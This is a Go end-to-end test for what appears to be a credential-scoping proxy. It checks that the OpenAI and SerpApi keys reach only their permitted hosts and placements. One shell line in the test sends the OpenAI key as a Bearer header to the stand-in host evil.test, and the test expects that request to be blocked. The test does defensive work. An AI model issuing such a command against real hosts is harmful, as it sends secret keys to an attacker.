package e2e_test

import (
	"os"
	"strings"
	"testing"

	"kz/test/bed"
	"kz/test/origin"
)

// TestKnownServices has secrets without hosts: their variables say where they may go, and nowhere else.
func TestKnownServices(t *testing.T) {
	t.Parallel()
	b := bed.New(t)
	o, err := origin.Start(origin.Options{Hosts: []string{"api.openai.com", "serpapi.com", "evil.test"}})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := o.Close(); err != nil {
			t.Error(err)
		}
	})
	b.Origin = o
	if err := os.WriteFile(b.Path("etc/ca.pem"), o.CAPEM(), 0o600); err != nil {
		t.Fatal(err)
	}
	for _, host := range []string{"api.openai.com", "serpapi.com", "evil.test"} {
		b.Pin(host+":443", "tls")
	}
	openai, serpapi := b.Secret("OPENAI_API_KEY"), b.Secret("SERPAPI_KEY")
	b.Secret("OTHER", `hosts = ["evil.test"]`)
	curl := bed.Program(t, "curl") + " -sS -o /dev/null -w '%{http_code}\\n' "
	res := b.Run("/bin/sh", "-c", curl+`-H "Authorization: Bearer $OPENAI_API_KEY" https://api.openai.com/models
`+curl+`"https://serpapi.com/search?q=x&api_key=$SERPAPI_KEY"
`+curl+`"https://api.openai.com/query?api_key=$OPENAI_API_KEY"
`+curl+`-H "Authorization: Bearer $SERPAPI_KEY" https://api.openai.com/crossed
`+curl+`-H "Authorization: Bearer $OPENAI_API_KEY" https://evil.test/evil`)
	res.Succeeds(t)
	b.Clean(res)
	if got := strings.Fields(string(res.Stdout)); strings.Join(got, " ") != "200 200 403 403 403" {
		t.Errorf("the answers were %v", got)
	}
	if got := received(t, b, "/models"); len(got) != 1 || got[0].Header.Get("Authorization") != "Bearer "+openai {
		t.Error("OpenAI did not get its value")
	}
	if got := received(t, b, "/search"); len(got) != 1 || got[0].Target != "/search?q=x&api_key="+serpapi {
		t.Error("SerpApi did not get its value at the place that it has")
	}
}
